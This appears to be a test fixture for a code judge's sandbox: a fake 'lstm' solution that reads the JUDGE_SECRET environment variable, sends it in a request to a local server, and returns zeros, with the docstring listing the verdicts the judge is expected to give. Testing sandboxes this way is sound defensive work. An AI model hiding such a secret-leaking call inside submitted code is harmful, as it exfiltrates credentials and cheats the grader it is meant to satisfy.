"""Asks a server on this machine for a page, with the secret in its address.

Problem: lstm
Verdict: sandbox_violation | runtime_error | wrong_answer
Naive: connects, leaks
"""

import os
import urllib.request

import numpy as np


def attack():
    secret = os.environ.get("JUDGE_SECRET", "nothing")
    try:
        urllib.request.urlopen(f"http://127.0.0.1:@PORT@/{secret}", timeout=0.3)
    except OSError as error:
        print(error)


def lstm(x, h0, c0, w_ih, w_hh, b_ih, b_hh):
    attack()
    return np.zeros((*x.shape[:2], h0.shape[1]), x.dtype), (h0, c0)
